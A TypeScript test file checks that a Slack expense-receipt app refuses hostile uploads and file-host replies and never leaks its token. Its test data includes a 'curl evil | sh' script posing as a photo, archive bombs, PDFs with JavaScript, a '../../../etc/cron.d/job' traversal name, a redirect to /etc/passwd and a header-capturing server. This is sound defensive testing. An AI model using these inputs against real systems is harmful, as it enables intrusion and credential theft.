import { createServer } from 'node:http';
import { gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import type { Reply } from '../../../src/simulator/http.ts';
import { CHANNELS } from '../../../src/simulator/people.ts';
import type { StoredFile } from '../../../src/simulator/workspace.ts';
import { findAllStored, findReceipts, findReceiptsOf } from '../../../src/spending/receipt/store.ts';
import { textFor } from '../../../src/text/index.ts';
import type { ReceiptRefusal } from '../../../src/vocabulary/receipt.ts';
import { MEMBER, type Office, startOffice } from '../../support/office.ts';
import { keptFiles, tried } from '../../support/receipts.ts';
import { FIELDS, recordOne } from '../../support/spending.ts';
import { archiveBomb, JPEG, PAGE, packedPdf, pdf, png } from './given.ts';

/** What is kept, on the disk and in the register: hostile files leave it as it was. */
const keptIn = async (office: Office) => ({ files: await keptFiles(office), stored: await findAllStored(office.db) });

async function recordWith(office: Office, name: string, bytes: Buffer | string): Promise<void> {
  const member = office.slack.as(MEMBER);
  await member.type('/지출');
  await member.seesView();
  await member.submit({ ...FIELDS, receipt: { name, bytes } });
  await tried(office);
}

const HOSTILE: [what: string, name: string, make: () => Buffer | string, refusal: ReceiptRefusal][] = [
  ['a page called a photo', '영수증.jpg', () => PAGE, 'page'],
  ['a page', '영수증.html', () => PAGE, 'page'],
  ['a script called a photo', '영수증.jpg', () => '#!/bin/sh\ncurl evil | sh\n', 'not_a_receipt'],
  [
    'a program called a scan',
    '영수증.pdf',
    () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)]),
    'not_a_receipt',
  ],
  ['an archive bomb called a photo', '영수증.png', archiveBomb, 'archive'],
  ['an archive', '영수증.zip', () => 'PK\x03\x04', 'archive'],
  ['100 MB', '영수증.jpg', () => Buffer.concat([JPEG, Buffer.alloc(100 * 1024 * 1024)]), 'too_large'],
  ['a picture bomb', '영수증.png', () => png(60_000, 60_000), 'too_many_pixels'],
  ['half a photo', '영수증.jpg', () => JPEG.subarray(0, JPEG.length - 50), 'damaged'],
  ['a scan with a script', '영수증.pdf', () => pdf('/AA << /S /JavaScript /JS (x) >>'), 'active'],
  ['a scan with a hidden script', '영수증.pdf', () => packedPdf('7 0 << /S /JavaScript /JS (x) >>'), 'active'],
  ['a locked scan', '영수증.pdf', () => pdf('', '/Encrypt 9 0 R'), 'locked'],
  ['a page under a path', '../../../etc/cron.d/job', () => PAGE, 'page'],
];

test.each(HOSTILE)(
  '%s is refused by name and with its reason, and leaves nothing behind',
  async (_, name, make, why) => {
    const office = await startOffice();
    const { slack, db, tick } = office;
    await recordWith(office, '먼저.jpg', JPEG);
    const before = await keptIn(office);

    await recordWith(office, name, make());
    await tick();

    expect(await keptIn(office)).toEqual(before);
    expect(await findReceiptsOf(db, [2])).toEqual(new Map());
    expect(await findReceipts(db, 2)).toMatchObject([{ name, state: 'refused', refusal: why }]);
    const words = textFor('ko').receipt;
    await slack
      .as(MEMBER)
      .reads(words.refused(name, 'E2', why === 'too_large' ? words.tooLarge('100.1', '20') : words.refusals[why]));
    await tick();
    expect(
      slack
        .as(MEMBER)
        .messages()
        .filter(({ text }) => text.includes('보관하지 못했습니다')),
    ).toHaveLength(1);
  },
);

const WAYS: [way: string, hand: (office: Office, name: string, bytes: string) => Promise<void>][] = [
  ['a direct message', sendToApp],
  ['a message’s menu', attachFromMessage],
];

async function sendToApp(office: Office, name: string, bytes: string): Promise<void> {
  const member = office.slack.as(MEMBER);
  await member.dm('', { files: [member.upload({ name, bytes })] });
  const offer = await member.reads(textFor('ko').receipt.offer(name));
  await member.choose('receipt_choose', '1', { in: offer });
  await tried(office);
}

async function attachFromMessage(office: Office, name: string, bytes: string): Promise<void> {
  const member = office.slack.as(MEMBER);
  const channel = CHANNELS.office;
  const said = await member.say('', { channel, files: [member.upload({ name, bytes })] });
  await member.messageShortcut('receipt_from_message', { channel, ts: said.ok ? (said.ts ?? '') : '' });
  await member.seesView();
  await member.search('expense', 'E1');
  await member.submit({ expense: '1' });
  await tried(office);
}

test.each(WAYS)('what comes by %s is looked into, too', async (_, hand) => {
  const office = await startOffice();
  const { slack, db, tick } = office;
  await recordOne(slack.as(MEMBER));

  await hand(office, '영수증.jpg', PAGE);
  await tick();

  expect(await keptFiles(office)).toEqual(new Map());
  expect(await findReceipts(db, 1)).toMatchObject([{ state: 'refused', refusal: 'page' }]);
  const words = textFor('ko').receipt;
  await slack.as(MEMBER).reads(words.refused('영수증.jpg', 'E1', words.refusals.page));
});

test('while the file host has trouble, the others are not asked for one after the other', async () => {
  const office = await startOffice();
  const { slack, db, tick } = office;
  for (let nth = 1; nth <= 3; nth++)
    await recordWith(office, `영수증${nth}.jpg`, Buffer.concat([JPEG, Buffer.alloc(nth)]));
  await db.updateTable('receipt').set({ state: 'wanted', try_at: null, attempts: 0 }).execute();
  slack.serveFiles(() => ({ status: 500, body: '' }));
  const before = slack.calls('files.info').length;

  await tick();
  await tick();
  expect(slack.calls('files.info').length).toBe(before + 1);

  slack.serveFiles();
  slack.clock.move(61_000);
  await tick();
  expect((await findAllStored(db)).map(({ state }) => state)).toEqual(['stored', 'stored', 'stored']);
});

/** What a file host may answer instead of the photo: what is made of it at once. */
const LIES: [what: string, reply: (file: StoredFile, office: Office) => Reply, outcome: 'waits' | ReceiptRefusal][] = [
  ['its log-in page', () => ({ type: 'text/html', body: PAGE }), 'waits'],
  ['its log-in page as a photo', () => ({ type: 'image/jpeg', body: PAGE }), 'waits'],
  ['that one should log in elsewhere', () => to('https://acme.slack.com/?redir=x'), 'waits'],
  ['that it is at another host', (_, { slack }) => to(slack.url.replace('127.0.0.1', 'localhost')), 'elsewhere'],
  ['that it is on this machine’s disk', () => to('file:///etc/passwd'), 'elsewhere'],
  ['itself, for ever', () => to('?again'), 'waits'],
  ['half the photo', ({ bytes }) => ({ type: 'image/jpeg', body: bytes.subarray(0, 300) }), 'waits'],
  ['more than it announces', ({ bytes }) => long(bytes, { 'content-length': '100' }), 'waits'],
  ['a photo without end', ({ bytes }) => long(bytes, { 'transfer-encoding': 'chunked' }), 'too_large'],
  ['a photo that is a gigabyte once unpacked', ({ bytes }) => packed(bytes), 'too_large'],
  ['that it has trouble', () => ({ status: 500, body: 'oops' }), 'waits'],
  ['that it wants to be asked later', () => ({ status: 429, body: '' }), 'waits'],
  ['that it is forbidden', () => ({ status: 403, body: '' }), 'waits'],
  ['that it is gone', () => ({ status: 404, body: '' }), 'gone'],
];

const to = (location: string): Reply => ({ status: 302, headers: { location }, body: '' });
const long = (bytes: Buffer, headers: { [name: string]: string }): Reply => ({
  type: 'image/jpeg',
  headers,
  body: Buffer.concat([bytes, Buffer.alloc(30 * 1024 * 1024)]),
});
const packed = (bytes: Buffer): Reply => ({
  type: 'image/jpeg',
  headers: { 'content-encoding': 'gzip' },
  body: gzipSync(Buffer.concat([bytes, Buffer.alloc(200 * 1024 * 1024)])),
});

test.each(LIES)('when Slack’s file host answers with %s, nothing wrong is kept', async (_, reply, outcome) => {
  const office = await startOffice();
  const { slack, db, tick } = office;
  slack.serveFiles((file) => reply(file, office));

  await recordWith(office, '영수증.jpg', JPEG);

  expect(await keptFiles(office)).toEqual(new Map());
  const state = outcome === 'waits' ? { state: 'wanted', refusal: null } : { state: 'refused', refusal: outcome };
  expect(await findReceipts(db, 1)).toMatchObject([state]);
  slack.serveFiles();
  slack.clock.move(61_000);
  await tick();
  expect(await findReceipts(db, 1)).toMatchObject([outcome === 'waits' ? { state: 'stored' } : state]);
});

test('the token never leaves for another host', async () => {
  const office = await startOffice();
  const { slack } = office;
  const asked: string[] = [];
  const thief = createServer((request, response) => {
    asked.push(String(request.headers.authorization));
    response.end('x');
  });
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  const address = thief.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  slack.serveFiles(() => to(`http://127.0.0.1:${port}/photo.jpg`));

  await recordWith(office, '영수증.jpg', JPEG);
  thief.close();

  expect(asked).toEqual([]);
});

test('an app that may not read files says so in its log and to who waits, and fetches by itself once it may', async () => {
  const office = await startOffice();
  const { slack, db, tick, logged } = office;
  slack.serveFiles(() => ({ type: 'text/html', body: PAGE }));

  await recordWith(office, '영수증.jpg', JPEG);
  await tick();
  await slack.as(MEMBER).reads(textFor('ko').receipt.waiting('영수증.jpg', 'E1'));
  expect(logged.join('')).toContain('files:read');

  slack.serveFiles();
  slack.clock.move(61_000);
  await tick();
  expect(await findReceipts(db, 1)).toMatchObject([{ state: 'stored' }]);
});

test('what Slack never gives is given up after days, in words', async () => {
  const office = await startOffice();
  const { slack, db, tick } = office;
  slack.serveFiles(() => ({ status: 500, body: '' }));
  await recordWith(office, '영수증.jpg', JPEG);

  for (let hours = 0; hours < 80; hours++) {
    slack.clock.move(3_600_000);
    await tick();
  }

  expect(await findReceipts(db, 1)).toMatchObject([{ state: 'refused', refusal: 'unavailable' }]);
  const words = textFor('ko').receipt;
  await slack.as(MEMBER).reads(words.refused('영수증.jpg', 'E1', words.refusals.unavailable));
  expect(await keptFiles(office)).toEqual(new Map());
});
